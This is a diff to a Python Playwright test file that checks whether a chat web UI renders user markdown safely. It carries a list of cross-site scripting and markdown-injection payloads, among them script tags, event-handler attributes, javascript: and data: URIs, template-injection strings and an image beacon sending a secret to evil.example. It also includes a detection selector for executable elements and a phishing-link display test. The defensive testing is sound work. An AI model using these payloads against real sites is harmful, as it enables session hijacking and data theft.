@@ -8,10 +8,11 @@ import pytest
 
 from tests.runtime.process import Runtime
 from tests.runtime.puppet import task
+from tests.runtime.ui.browser_tools import need_package
 from tests.runtime.ui.conftest import Open
 from tests.runtime.ui.test_page import ask, finish
 
-pytest.importorskip("playwright.sync_api", reason="the package `playwright` is not installed")
+need_package("playwright.sync_api")
 from playwright.sync_api import Page, expect  # noqa: E402
 
 PAYLOADS = [
@@ -30,22 +31,27 @@ PAYLOADS = [
     "<link rel=stylesheet href=https://evil.example/x.css>",
     "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](<java\tscript:window.hit=1>)",
     "[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](&#106;avascript:window.hit=1)",
-    "![i](https://evil.example/pixel.png?secret) ![j](x\" onerror=\"window.hit=1)",
+    '![i](https://evil.example/pixel.png?secret) ![j](x" onerror="window.hit=1)',
     "[ref]: javascript:window.hit=1\n\n[ref]",
-    "<https://evil.example/\"onmouseover=window.hit=1> <javascript:window.hit=1>",
+    '<https://evil.example/"onmouseover=window.hit=1> <javascript:window.hit=1>',
     "```html onload=window.hit=1\n<script>window.hit=1</script>\n```",
-    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | `</code><script>window.hit=1</script>` |",
+    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | c |",
+    "| `</code><script>window.hit=1</script>` |\n|---|",
     "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
     "**<b onclick=window.hit=1>bold</b>** _<u onmouseenter=window.hit=1>u</u>_",
     "</div></li></ol></main><script>window.hit=1</script>",
     "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= window.hit=1 %>",
 ]
 EVERYTHING = "\n\n".join(PAYLOADS)
-_SUSPECTS = """() => [...document.querySelectorAll("#conversation *, #sessions *, #announcements *, #welcome *")].filter(
-  (element) => /^(script|img|iframe|object|embed|form|input|style|link|meta|base|math|video|audio)$/i.test(element.tagName)
+_SUSPECTS = """() => {
+  const executable = /^(script|img|iframe|object|embed|form|input|style|link|meta|base|math|video|audio)$/i;
+  const shown = "#conversation *, #sessions *, #announcements *, #welcome *";
+  return [...document.querySelectorAll(shown)].filter((element) =>
+    executable.test(element.tagName)
     || [...element.attributes].some((attribute) => /^on|^style$|^src/i.test(attribute.name))
     || (element.hasAttribute("href") && !/^(https?:|mailto:|#)/.test(element.getAttribute("href")))
-).map((element) => element.outerHTML)"""
+  ).map((element) => element.outerHTML);
+}"""
 
 
 def assert_inert(page: Page) -> None:
@@ -127,11 +133,18 @@ def test_markdown(text: str, html: str, scripted: Runtime, open_page: Open) -> N
 
 def test_link_shows_its_host_and_an_image_is_only_a_link(scripted: Runtime, open_page: Open) -> None:
     page = open_page(scripted.url + "/")
-    ask(page, task(solo=[{"text": "[your bank](https://evil.example/login) https://good.example/x ![pic](https://p.example/a.png)"}]))
-    finish(page)
-    expect(page.locator(".message")).to_have_text(
-        "your bank (evil.example) https://good.example/x pic (p.example)"
+    ask(
+        page,
+        task(
+            solo=[
+                {
+                    "text": "[your bank](https://evil.example/login) https://good.example/x ![pic](https://p.example/a.png)"
+                }
+            ]
+        ),
     )
+    finish(page)
+    expect(page.locator(".message")).to_have_text("your bank (evil.example) https://good.example/x pic (p.example)")
     for link in page.locator(".message a").all():
         assert link.get_attribute("rel") == "noopener noreferrer nofollow"
         assert link.get_attribute("target") == "_blank"
